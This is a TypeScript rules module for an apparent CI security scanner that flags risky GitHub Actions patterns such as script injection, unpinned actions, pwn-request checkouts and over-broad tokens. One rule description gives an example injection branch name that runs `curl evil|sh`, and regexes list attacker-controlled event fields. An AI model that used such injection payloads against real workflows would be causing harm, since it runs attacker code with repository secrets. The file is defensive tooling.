/**
 * GitHub Actions rules, for workflows (per job) and action metadata (`action.yml`). Expressions
 * are reported at their own line and column, also inside a multi-line `run: |` script.
 */
import { entry, get, isMap, toBool, toStr } from '../model.js';
import { actionName, expressions, steps, triggers, type Step } from '../parse/workflow.js';
import type { Doc, Hit, Node, Resource, Rule } from '../types.js';
import { defineRule, hit, resourceRule, type CheckResult, type RuleMeta } from './define.js';

function owner(res: Resource): string {
  return res.type === 'job' ? `job ${res.name}` : `action ${res.name}`;
}

function capital(s: string): string {
  return s.charAt(0).toUpperCase() + s.slice(1);
}

function stepLabel(step: Step, res: Resource): string {
  const name = toStr(get(step.node, 'name'));
  return `${name !== undefined ? `Step "${name}"` : `Step ${step.index + 1}`} of ${owner(res)}`;
}

/** A rule checked on each job of a workflow and on the action of an `action.yml`. */
function jobRule(
  meta: RuleMeta,
  check: (res: Resource, doc: Doc) => CheckResult,
  formats: Array<'workflow' | 'action'>,
): Rule {
  const checks: Parameters<typeof resourceRule>[1] = {};
  if (formats.includes('workflow')) checks.workflow = { types: ['job'], check };
  if (formats.includes('action')) checks.action = { types: ['action'], check };
  return resourceRule(meta, checks);
}

/** The scripts a step runs: `run:`, and `script:` of actions/github-script. */
function scripts(step: Step): Node[] {
  const out: Node[] = [];
  if (step.run !== undefined) out.push(step.run);
  if (step.uses !== undefined && actionName(step.uses) === 'actions/github-script') {
    const script = get(step.with, 'script');
    if (script !== undefined) out.push(script);
  }
  return out;
}

/**
 * Context values an outsider controls (issue and pull request text, branch names, commit
 * messages and authors, wiki page names), and whole event objects that contain them.
 */
const UNTRUSTED = new RegExp(
  [
    String.raw`\bgithub\.head_ref\b`,
    String.raw`\bgithub\.event\.(issue|pull_request|discussion)\.(title|body)\b`,
    String.raw`\bgithub\.event\.(comment|review|review_comment)\.body\b`,
    String.raw`\bgithub\.event\.pull_request\.head\.(ref|label|repo\.default_branch)\b`,
    String.raw`\bgithub\.event\.pages(\[[^\]]*\]|\.\*)\.page_name\b`,
    String.raw`\bgithub\.event\.(commits(\[[^\]]*\]|\.\*)|head_commit)\.(message|author\.(email|name)|committer\.(email|name))\b`,
    String.raw`\bgithub\.event\.workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(email|name)))\b`,
    String.raw`\bgithub\.event(\.(issue|pull_request|comment|review|review_comment|discussion|head_commit|commits|pages|workflow_run))?\s*\)`,
  ].join('|'),
);

export const workflowScriptInjection = jobRule(
  {
    id: 'workflow-script-injection',
    title: 'Untrusted event data interpolated into a script',
    severity: 'high',
    description:
      '`${{ }}` is expanded into the script text before the shell (or github-script) runs it. An issue title, a pull request body or a branch name such as `a";curl evil|sh;"` then runs as code in the job, with its GITHUB_TOKEN and secrets.',
    fix: 'Pass the value through an environment variable and quote it: `env: { TITLE: ${{ github.event.issue.title }} }` and `echo "$TITLE"` (in github-script, read `context.payload` or `process.env.TITLE`).',
    refs: {
      checkov: ['CKV_GHA_2'],
      kics: ['20f14e1a-a899-4e79-9f09-b6a84cd4649b', '62ff6823-927a-427f-acf9-f1ea2932d616'],
    },
  },
  (res) =>
    steps(res).flatMap((step) =>
      scripts(step).flatMap((script) =>
        expressions(script)
          .filter((e) => UNTRUSTED.test(e.inner))
          .map((e) =>
            hit(
              e.pos,
              `${stepLabel(step, res)} interpolates ${e.text} into its script: pass it through env: and use "$VAR".`,
            ),
          ),
      ),
    ),
  ['workflow', 'action'],
);

export const actionInputInterpolated = jobRule(
  {
    id: 'action-input-interpolated-in-run',
    title: 'Action input interpolated into a script',
    severity: 'medium',
    description:
      "A composite action's `${{ inputs.x }}` is pasted into the script text before the shell runs it; a caller that passes a branch name, a title or any user text into the input gets shell injection in its own job without seeing why.",
    fix: 'Map the input to an environment variable on the step (`env: { NAME: ${{ inputs.name }} }`) and use `"$NAME"` in the script.',
  },
  (res) =>
    steps(res).flatMap((step) =>
      scripts(step).flatMap((script) =>
        expressions(script)
          .filter((e) => /\b(inputs|github\.event\.inputs)\.[A-Za-z_][\w-]*|\binputs\s*\[/.test(e.inner))
          .map((e) =>
            hit(
              e.pos,
              `${stepLabel(step, res)} interpolates ${e.text} into its script: pass it through env: and use "$VAR".`,
            ),
          ),
      ),
    ),
  ['action'],
);

const SHA = /^[0-9a-f]{40}$/;
/** Organisations whose actions GitHub itself publishes and runs its platform with. */
const GITHUB_OWNED = /^(actions|github)\//i;

/** Why a `uses:` is not pinned, or undefined when it is (or need not be). */
function unpinned(uses: string): string | undefined {
  if (uses.startsWith('./') || uses.startsWith('.\\')) return undefined;
  if (uses.startsWith('docker://')) {
    return /@sha256:[0-9a-f]{64}$/i.test(uses) ? undefined : 'a Docker image without a digest';
  }
  if (uses.includes('${{')) return undefined;
  const at = uses.lastIndexOf('@');
  if (at === -1) return 'no ref';
  if (GITHUB_OWNED.test(uses)) return undefined;
  const ref = uses.slice(at + 1);
  return SHA.test(ref) ? undefined : `ref ${ref}, which can be moved`;
}

function pinFix(uses: string): string {
  return uses.startsWith('docker://') ? 'pin it by digest' : 'pin the full commit SHA';
}

export const workflowActionNotPinned = jobRule(
  {
    id: 'workflow-action-not-pinned',
    title: 'Third-party action not pinned to a commit SHA',
    severity: 'high',
    description:
      "A tag or branch of someone else's action can be moved to new code at any time: when the action's repository is compromised (as tj-actions/changed-files was), every workflow using the tag runs the attacker's code with its token and secrets. Only a full commit SHA is immutable. Actions published by GitHub (`actions/*`, `github/*`) are trusted like the runner itself and not reported.",
    fix: 'Pin to the full 40-character commit SHA and keep the version in a comment: `uses: owner/action@<sha> # v4.2.0`; let Dependabot or Renovate update it. Pin Docker actions by digest (`docker://image@sha256:…`).',
    refs: { checkov: ['CKV_GHA_8'], kics: ['555ab8f9-2001-455e-a077-f2d0f41e2fb9'] },
  },
  (res) => {
    const hits: Hit[] = [];
    const jobUses = get(res.body, 'uses');
    const reusable = res.type === 'job' ? toStr(jobUses) : undefined;
    if (reusable !== undefined) {
      const why = unpinned(reusable.trim());
      if (why)
        hits.push(
          hit(jobUses!.pos, `${capital(owner(res))} calls ${reusable} by ${why}: ${pinFix(reusable)}.`),
        );
    }
    for (const step of steps(res)) {
      if (step.uses === undefined) continue;
      const why = unpinned(step.uses);
      if (why) {
        hits.push(
          hit(
            step.usesNode!.pos,
            `${stepLabel(step, res)} uses ${step.uses} by ${why}: ${pinFix(step.uses)}.`,
          ),
        );
      }
    }
    return hits;
  },
  ['workflow', 'action'],
);

function writeAllHit(map: Node | undefined, where: string): Hit | undefined {
  const value = get(map, 'permissions');
  return toStr(value)?.trim() === 'write-all'
    ? hit(value!.pos, `${where} grants the GITHUB_TOKEN write-all: list only the scopes it needs.`)
    : undefined;
}

export const workflowPermissionsWriteAll = defineRule({
  id: 'workflow-permissions-write-all',
  title: 'GITHUB_TOKEN granted write-all',
  severity: 'high',
  description:
    '`permissions: write-all` gives the job token write access to code, releases, packages, issues, deployments and more: any compromised step or action can push code, publish releases or tamper with the repository.',
  fix: 'Set `permissions: contents: read` at the top of the workflow and grant each job only the scopes it needs (`packages: write`, `id-token: write`, …).',
  refs: { checkov: ['CKV2_GHA_1'], kics: ['a7b8c9d0-e1f2-4a3b-9c5d-6e7f8a9b0c1d'] },
  formats: ['workflow'],
  check(doc) {
    const hits: Hit[] = [];
    const top = writeAllHit(doc.root, 'The workflow');
    if (top) hits.push(top);
    for (const res of doc.resources) {
      const h = writeAllHit(res.body, `Job ${res.name}`);
      if (h) hits.push({ ...h, resource: res });
    }
    return hits;
  },
});

/** Refs and repositories that name the pull request's (or triggering run's) untrusted code. */
const PR_HEAD =
  /\bgithub\.(head_ref|event\.pull_request\.head\.(sha|ref|repo\.full_name)|event\.workflow_run\.(head_sha|head_branch|head_repository\.full_name)|event\.number)\b|refs\/pull\//;

export const workflowPrTargetCheckout = jobRule(
  {
    id: 'workflow-pr-target-checkout',
    title: 'Privileged workflow checks out pull request code',
    severity: 'critical',
    description:
      "`pull_request_target` and `workflow_run` run with the base repository's secrets and a write token, even for pull requests from forks. Checking out the pull request's head and building or testing it runs the contributor's code with those privileges (a \"pwn request\").",
    fix: 'Run untrusted code in a `pull_request` workflow (no secrets, read-only token) and pass results as artifacts; if the privileged workflow must see the PR, check out only the base (`github.event.pull_request.base.sha`) and never execute files from the head.',
    refs: { kics: ['d3a8b4c1-f2e7-4a9b-8c5d-1e6f0a2b3c4d'] },
  },
  (res, doc) => {
    const on = triggers(doc);
    const privileged = ['pull_request_target', 'workflow_run'].filter((t) => on.has(t));
    if (privileged.length === 0) return;
    const hits: Hit[] = [];
    for (const step of steps(res)) {
      if (step.uses !== undefined && actionName(step.uses) === 'actions/checkout') {
        for (const key of ['ref', 'repository']) {
          const value = get(step.with, key);
          const text = toStr(value);
          if (text === undefined || !PR_HEAD.test(text)) continue;
          const e = expressions(value).find((x) => PR_HEAD.test(x.inner));
          hits.push(
            hit(
              e?.pos ?? value!.pos,
              `${stepLabel(step, res)} checks out the pull request head (${key}: ${text.trim()}) in a ${privileged.join('/')} workflow: do not run untrusted code with secrets.`,
            ),
          );
        }
      }
      const run = toStr(step.run);
      const m = run === undefined ? null : /\bgh\s+pr\s+checkout\b/.exec(run);
      if (m) {
        hits.push(
          hit(
            step.run!.pos,
            `${stepLabel(step, res)} runs gh pr checkout in a ${privileged.join('/')} workflow: do not run untrusted code with secrets.`,
          ),
        );
      }
    }
    return hits;
  },
  ['workflow'],
);

export const workflowCheckoutPersistCredentials = jobRule(
  {
    id: 'workflow-checkout-persist-credentials',
    title: 'actions/checkout leaves the token in .git/config',
    severity: 'low',
    description:
      'By default actions/checkout writes the GITHUB_TOKEN into `.git/config`, where every later step, and any artifact that uploads the workspace, can read it.',
    fix: 'Add `with: { persist-credentials: false }` to the checkout step, and authenticate explicitly in the one step that pushes.',
    refs: { kics: ['c9d0e1f2-a3b4-4c5d-9e7f-8a9b0c1d2e3f'] },
  },
  (res) =>
    steps(res)
      .filter((s) => s.uses !== undefined && actionName(s.uses) === 'actions/checkout')
      .filter((s) => toBool(get(s.with, 'persist-credentials')) !== false)
      .map((s) => {
        const value = get(s.with, 'persist-credentials');
        return hit(
          value?.pos ?? s.usesNode!.pos,
          `${stepLabel(s, res)} keeps the token in .git/config: set persist-credentials: false.`,
        );
      }),
  ['workflow', 'action'],
);

export const workflowSecretsInherit = jobRule(
  {
    id: 'workflow-secrets-inherit',
    title: 'Reusable workflow receives every secret',
    severity: 'low',
    description:
      '`secrets: inherit` hands every repository, environment and organisation secret to the called workflow, whatever it needs; a compromise of that workflow (or of the ref it is called at) exposes all of them.',
    fix: 'Pass only the secrets the called workflow declares: `secrets: { registry-token: ${{ secrets.REGISTRY_TOKEN }} }`.',
    refs: { kics: ['e3f4a5b6-c7d8-4e9f-8a1b-2c3d4e5f6a7b'] },
  },
  (res) => {
    const value = get(res.body, 'secrets');
    if (toStr(value)?.trim() === 'inherit') {
      return hit(
        value!.pos,
        `Job ${res.name} passes every secret to ${toStr(get(res.body, 'uses')) ?? 'the called workflow'}: pass only the ones it needs.`,
      );
    }
  },
  ['workflow'],
);

const UNSECURE = 'ACTIONS_ALLOW_UNSECURE_COMMANDS';

function unsecureHit(env: Node | undefined, where: string, resource?: Resource): Hit | undefined {
  const value = isMap(env) ? entry(env, UNSECURE)?.value : undefined;
  if (toBool(value ?? undefined) !== true) return undefined;
  return {
    pos: value!.pos,
    message: `${where} sets ${UNSECURE}: true, which lets any output line change PATH and environment: remove it.`,
    ...(resource ? { resource } : {}),
  };
}

export const workflowUnsecureCommands = defineRule({
  id: 'workflow-unsecure-commands',
  title: 'Deprecated set-env and add-path commands enabled',
  severity: 'high',
  description:
    '`ACTIONS_ALLOW_UNSECURE_COMMANDS: true` re-enables the `::set-env` and `::add-path` workflow commands, which GitHub disabled because any text a step prints (a log line, an issue title echoed by a tool) can then set environment variables such as NODE_OPTIONS or LD_PRELOAD and take over later steps.',
  fix: 'Remove the variable and write to the `$GITHUB_ENV` and `$GITHUB_PATH` files instead; update actions that still need the old commands.',
  refs: { checkov: ['CKV_GHA_1'], kics: ['60fd272d-15f4-4d8f-afe4-77d9c6cc0453'] },
  formats: ['workflow', 'action'],
  check(doc) {
    const hits: Array<Hit | undefined> = [];
    if (doc.format === 'workflow') hits.push(unsecureHit(get(doc.root, 'env'), 'The workflow'));
    for (const res of doc.resources) {
      if (res.type === 'job') hits.push(unsecureHit(get(res.body, 'env'), `Job ${res.name}`, res));
      for (const step of steps(res)) hits.push(unsecureHit(step.env, stepLabel(step, res), res));
    }
    return hits.filter((h): h is Hit => h !== undefined);
  },
});

export const WORKFLOW_RULES: readonly Rule[] = [
  workflowScriptInjection,
  actionInputInterpolated,
  workflowActionNotPinned,
  workflowPermissionsWriteAll,
  workflowPrTargetCheckout,
  workflowCheckoutPersistCredentials,
  workflowSecretsInherit,
  workflowUnsecureCommands,
];
